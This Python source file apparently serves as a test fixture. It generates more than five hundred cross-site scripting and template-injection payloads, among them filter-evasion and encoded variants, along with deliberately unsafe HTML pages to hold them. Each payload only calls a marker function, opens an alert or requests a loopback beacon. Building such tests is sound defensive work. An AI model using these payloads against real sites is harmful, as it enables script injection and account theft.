"""Script payloads of our own: more than five hundred ways to make a browser run, load or open what only was text.

Each has a mark. A payload that runs calls ``ran(mark)``, opens a dialog, or asks the beacon on loopback for
``/b<mark>``; a template that is worked out shows a product that the payload itself does not hold. `kind` says into what
a careless page would have to put it for that, see `unsafe_document`.
"""

from __future__ import annotations

import base64
import html
import re
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from functools import lru_cache
from itertools import product
from urllib.parse import quote, unquote

LONGEST = 119
"""Signs: what a mail shows of a product's name."""


@dataclass(frozen=True)
class Payload:
    """`kind`: html, quoted, apostrophe, bare (within a tag), script (within a string), comment, style, url, markdown,
    folded (harmless until somebody decodes it) or template, whose worked out words are `told`."""

    mark: int
    kind: str
    text: str
    told: str = ""


ACTS = (
    "ran({m})",
    "top.ran({m})",
    "self['ran']({m})",
    "[{m}].map(ran)",
    "alert({m})",
    "new Image().src='{b}'",
)
"""What a payload does when it runs."""

SCRIPTS = (
    "<script>{x}</script>", "<SCRIPT>{x}</SCRIPT>", "<script\n>{x}</script\n>", "<script/x>{x}</script>",
    "<script type=module>{x}</script>", "<svg><script>{x}</script></svg>", "</p></div><script>{x}</script>",
    "</title><script>{x}</script>", "</textarea><script>{x}</script>", "</noscript><script>{x}</script>",
    "</select><script>{x}</script>", "<b></b\x0c><script\x0c>{x}</script>", "<script>/*\n*/{x}//</script>",
    "<svg><script>{x}<!--</script>",
)  # fmt: skip
ELEMENTS = (
    "img src=x onerror", "svg onload", "input autofocus onfocus", "details open ontoggle",
    "video src=x onerror", "audio src=x onerror", "iframe onload", "object data=x onerror",
    "select autofocus onfocus", "svg><animate attributeName=x dur=1s onbegin",
    "svg><set attributeName=x onbegin", "b tabindex=1 autofocus onfocus", "video><source onerror",
    "link rel=stylesheet href=x onerror", "script src=x onerror", "img srcset=x onerror", "body onpageshow",
    "marquee onstart", "embed src=x onload", "b onpointerenter", "b onclick", "form onsubmit",
    "b contenteditable onbeforeinput", "b popover onbeforetoggle", "img src=x onload=1 onerror",
)  # fmt: skip
SPELLINGS = ('<{e}="{x}">', "<{e}={x}>", "<{e}='{x}' ", "<{up}\n=\n{x}//>", "<{e}=&#x72;an({m})>")
MARKUP = (
    "<svg><a xlink:href='javascript:{x}'><text y=9>a</text></a></svg>",
    "<math><a href='javascript:{x}'>a</a></math>", "<svg><style><img src=x onerror={x}></style></svg>",
    "<math><mtext><img src=x onerror={x}></mtext></math>",
    "<svg><foreignObject><img src=x onerror={x}></foreignObject></svg>", "<svg><desc><img src=x onerror={x}>",
    "<svg><title><img src=x onerror={x}></title></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={x}>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={x}>",
    "<noscript><p title='</noscript><img src=x onerror={x}>'>",
    "<table><td background=x><img src=x onerror={x}>", "<template><b></template><img src=x onerror={x}>",
    "<div><template shadowrootmode=open><img src=x onerror={x}></template></div>",
    "<xmp></xmp><img src=x onerror={x}>",
    "<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={x}>",
    "<isindex><svg/onload={x}>", "<style>b{{transition:1s}}</style><style onload={x}></style>",
    "<a href='javascript:{x}' autofocus>a</a>", "<iframe srcdoc='<script>{x}</script>'></iframe>",
    "<iframe srcdoc='<svg onload={x}>'></iframe>", "<iframe srcdoc='&lt;img src=x onerror={x}&gt;'></iframe>",
    "<iframe sandbox=allow-scripts srcdoc='<script>{x}</script>'>", "<iframe src='javascript:{x}'></iframe>",
    "<iframe src='data:text/html,<script>{x}</script>'></iframe>",
    "<object data='data:text/html,<script>{x}</script>'></object>",
    "<embed src='data:text/html,<script>{x}</script>'>", "<script src='data:,{x}'></script>",
    "<button formaction='javascript:{x}' form=f>a</button>",
    "<form id=f action='javascript:{x}'><input type=submit></form>", "<body\tonload={x}>",
    "<plaintext><svg onload={x}>",
)  # fmt: skip
LOADS = (
    "<img src={b}>", "<script src={b}></script>", "<iframe src={b}></iframe>", "<object data={b}></object>",
    "<embed src={b}>", "<video poster={b}></video>", "<audio src={b} autoplay></audio>",
    "<link rel=stylesheet href={b}>", "<link rel=preload as=image href={b}>", "<link rel=prefetch href={b}>",
    "<input type=image src={b}>", "<img srcset='{b} 1x'>", "<picture><source srcset={b}><img></picture>",
    "<table background={b}><td>a</table>", "<svg><image href={b} /></svg>", "<svg><use href='{b}#a' /></svg>",
    "<style>@import '{b}';</style>", "<b style='background:url({b})'>a</b>",
    "<style>*{{background:url({b})}}</style>", "<video><track default src={b}></video>",
    "<base href='{b}/'><img src=a>", "<meta http-equiv=refresh content='0;url={b}'>",
    "<form action={b}><button>a</button></form>", "<b hx-get={b} hx-trigger=load>a</b>",
    "<b data-hx-get={b} data-hx-trigger=load>a</b>", "<b hx-on::load=\"ran({m})\">a</b>",
    "<link rel=icon href={b}>", "<style>@font-face{{font-family:a;src:url({b})}}*{{font-family:a}}</style>",
    "<style>b::after{{content:url({b})}}</style><b>a</b>",
)  # fmt: skip
SCHEMES = (
    "javascript:{x}", "JaVaScRiPt:{x}", " javascript:{x}", "java\tscript:{x}", "java\nscript:{x}",
    "javascript\t:{x}", "\x01javascript:{x}", "javascript:/*--></title></style>*/{x}", "javascript://%0a{x}",
    "javascript:void {x}", "data:text/html,<script>{x}</script>", "data:text/html;charset=x,<svg onload={x}>",
    "data:text/html;base64,{z}", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{x}'/>",
)  # fmt: skip
BREAKS = (
    "{q} autofocus onfocus={x} a={q}", "{q}><img src=x onerror={x}>", "{q}><svg onload={x}>",
    "{q}/><script>{x}</script>", "{q} onclick={x} {q}", "{q} style=background:url({b}) {q}",
    "a{q}onerror={x} src=x autofocus onfocus={x} {q}", "{q}\nautofocus\nonfocus\n={x}\n{q}",
)  # fmt: skip
STRINGS = (
    "</script><script>{x}</script>", '";{x};//', '"-{x}-"', '"+{x}+"', "</script><svg onload={x}>",
    '"}};{x};({{"a":"', '"]}}</script><img src=x onerror={x}>', '\\";{x};//', '"\u2028;{x}//',
    "<!--<script></script><script>{x}</script>",
)  # fmt: skip
COMMENTS = (
    "--><img src=x onerror={x}><!--", "--!><script>{x}</script>", "--><svg onload={x}>",
    "><script>{x}</script><!--", "--\n--><b autofocus tabindex=1 onfocus={x}>",
)  # fmt: skip
STYLES = (
    "red;background:url({b})", "red\"><img src={b}>", "red}}*{{background:url({b})}}",
    "</style><script>ran({m})</script>", "red;}}@import '{b}';", "url({b})", "image-set('{b}' 1x)",
)  # fmt: skip
MARKDOWN = (
    "[a](javascript:{x})", "[a](<javascript:{x}>)", "![a](javascript:{x})",
    "[a](data:text/html,<script>{x}</script>)", "[a](java\tscript:{x})",
    "[<img src=x onerror={x}>](https://a.example)", "**<svg onload={x}>**", "# <img src=x onerror={x}>",
    "> <script>{x}</script>", "- <iframe srcdoc='<script>{x}</script>'>", "`<img src=x onerror={x}>`",
    "|<svg onload={x}>|", "~~~ <script>{x}</script>", "![a](https://a.example/\"onerror=\"{x})",
    "<javascript:{x}>", "[a]: javascript:{x}", "https://a.example/\"onmouseover=\"{x}",
    "https://a.example/'><img src=x onerror={x}>", "www.a.example/<script>{x}</script>",
)  # fmt: skip
FOLDED = (
    "\uff1cscript\uff1e{x}\uff1c/script\uff1e", "%3Cscript%3E{x}%3C/script%3E",
    "&lt;script&gt;{x}&lt;/script&gt;", "%253Cscript%253E{x}%253C/script%253E", "&#60;svg onload={x}&#62;",
    "&#x3c;img src=x onerror={x}&#x3e;", "\\u003cscript\\u003e{x}\\u003c/script\\u003e",
    "<scr\u200bipt>{x}</scr\u200bipt>", "<\u202escript\u202c>{x}</script>", "<\u017fcript>{x}</\u017fcript>",
    "\ufe64svg onload={x}\ufe65", "<scr<script>ipt>{x}</scr</script>ipt>",
    "&amp;lt;script&amp;gt;{x}&amp;lt;/script&amp;gt;", "<\ufeffscript>{x}</script>",
    "\\x3cscript\\x3e{x}\\x3c/script\\x3e",
)  # fmt: skip
TEMPLATES = (
    "{{{{{a}*{m}}}}}", "{{%print({a}*{m})%}}", "${{{a}*{m}}}", "<%= {a}*{m} %>", "#{{{a}*{m}}}",
    "{{{{ ({a}*{m})|string }}}}", "*{{{a}*{m}}}", "{{{{''.join([({a}*{m})|string])}}}}", "@({a}*{m})",
    "[[${{{a}*{m}}}]]", "{{{{[{a}*{m}][0]}}}} {{name}} %(name)s",
)  # fmt: skip


def _list_patterns() -> Iterator[tuple[str, str]]:
    """(kind, pattern); a pattern still has ``{x}`` (what it does), ``{m}``, ``{b}`` or ``{a}``."""
    for pattern, hole in product(SCRIPTS, ACTS):
        yield "html", _put(pattern, hole)
    for element, spelling in product(ELEMENTS, SPELLINGS):
        yield "html", _put(spelling.replace("{e}", element).replace("{up}", element.title()), "ran({m})")
    for pattern, hole in product(MARKUP, ("ran({m})", "top.ran({m})")):
        yield "html", _put(pattern, hole)
    yield from (("html", pattern) for pattern in LOADS)
    for pattern, hole in product(SCHEMES, ("ran({m})", "parent.ran({m})", "alert({m})")):
        yield "url", _put(pattern, hole)
    for kind, quote_sign in (("quoted", '"'), ("apostrophe", "'"), ("bare", " ")):
        for pattern, hole in product(BREAKS, ("ran({m})", "top.ran({m})", "alert({m})")):
            yield kind, _put(pattern.replace("{q}", quote_sign), hole)
    for pattern, hole in product(STRINGS, (ACTS[0], ACTS[3], ACTS[5])):
        yield "script", _put(pattern, hole)
    for pattern, hole in product(COMMENTS, ("ran({m})", "self.ran({m})")):
        yield "comment", _put(pattern, hole)
    yield from (("style", pattern) for pattern in STYLES)
    for pattern, hole in product(MARKDOWN, ("ran({m})", "alert({m})")):
        yield "markdown", _put(pattern, hole)
    for pattern, hole in product(FOLDED, ("ran({m})", "top.ran({m})")):
        yield "folded", _put(pattern, hole)
    yield from (("template", pattern) for pattern in TEMPLATES)


def _put(pattern: str, hole: str) -> str:
    return pattern.replace("{x}", hole)


def make_payloads(beacon: str) -> list[Payload]:
    """All of them, none twice. `beacon`: the address that must never be asked, as ``//127.0.0.1:4000``."""
    made = []
    for mark, (kind, pattern) in enumerate(_list_patterns(), start=100):
        code = base64.b64encode(f"<script>ran({mark})</script>".encode()).decode()
        text = pattern.format(m=mark, b=f"{beacon}/b{mark}", a=7919, z=code)
        made.append(Payload(mark, kind, text, str(7919 * mark) if kind == "template" else ""))
    assert len({one.text for one in made}) == len(made) and max(len(one.text) for one in made) <= LONGEST
    return made


def unsafe_document(payload: Payload) -> str:
    """A page as somebody careless would write it, with the payload where its kind belongs."""
    text = payload.text
    if payload.kind == "folded":
        text = _unfold(text)
    if payload.kind == "markdown":
        text = re.sub(r"(?s)!?\[(.*)\](?:\(|: )<?(.*?)>?\)?$", r'<iframe src="\2"></iframe>\1', text)
        text = re.sub(r"^(https?:.*)", r"""<a href="\1">a</a><a href='\1'>a</a>""", text)
        text = re.sub(r"^<(javascript:.*)>", r'<iframe src="\1"></iframe>', text)
    frames = {
        "quoted": '<input value="{}">', "apostrophe": "<input value='{}'>", "bare": "<input value=a{}>",
        "script": '<script>var a = "{}"</script>', "comment": "<!--{}-->",
        "style": "<style>b{{color:{}}}</style><b style='color:{}'>a</b>",
        "url": '<iframe src="{}"></iframe>',
    }  # fmt: skip
    body = frames.get(payload.kind, "{}").replace("{{", "{").replace("}}", "}").replace("{}", text)
    return f"<!doctype html><body>{body}\n<b>a</b>"


def _unfold(text: str) -> str:
    """What decoding too much, or throwing signs away, makes of text."""
    for _ in range(2):
        text = html.unescape(unquote(text))
    text = unicodedata.normalize("NFKC", text)
    text = re.sub(r"\\u00(..)|\\x(..)", lambda found: chr(int(found[1] or found[2], 16)), text)
    text = "".join(sign for sign in text if unicodedata.category(sign) != "Cf")
    return re.sub("<script>(?=ipt>)|</script>(?=ipt>)", "", text)


@lru_cache(5000)
def squash(text: str) -> str:
    """What is left to compare when spaces and signs without a shape are not the point."""
    return "".join(sign for sign in text if unicodedata.category(sign)[0] not in "CZ")


def in_path(*payloads: Payload) -> str:
    """As a part of an address."""
    return quote(" ".join(one.text for one in payloads), safe="")
